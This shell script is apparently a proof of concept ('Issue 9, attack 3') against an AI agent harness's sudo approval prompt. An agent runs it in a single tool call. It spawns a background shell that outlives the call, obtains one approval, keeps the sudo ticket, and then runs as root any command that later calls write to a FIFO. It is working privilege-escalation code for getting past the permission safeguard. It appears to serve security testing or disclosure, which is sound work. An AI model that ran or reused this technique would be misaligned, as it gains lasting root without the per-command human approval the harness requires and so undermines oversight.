#!/bin/sh
# Issue 9, attack 3 (one approval, lasting root), step 1, run by the agent in
# one bash tool call: start a background shell that outlives this call. It
# runs `sudo true` through pi's own PATH wrapper (the modal), then waits on a
# FIFO and runs `/usr/bin/sudo -n sh -c LINE` for each line a later call
# writes. With no tty, sudo keys its ticket to that background shell.
# Everything lives in $HOME/attack3; the shell's pid is in $HOME/attack3/pid.
d=$HOME/attack3
rm -rf "$d"
mkdir -p "$d"
mkfifo "$d/fifo"
sh "$(dirname "$0")/ticket_bg.sh" "$d" </dev/null >/dev/null 2>&1 &
echo $! >"$d/pid"
# Keep the call open until the background sudo was answered (bounded: 60 s).
i=0
while [ ! -e "$d/approved" ] && [ "$i" -lt 600 ]; do
  sleep 0.1
  i=$((i + 1))
done
cat "$d/approved" 2>/dev/null || echo "approved: never"
echo "during:"
cat "$d/during" 2>/dev/null
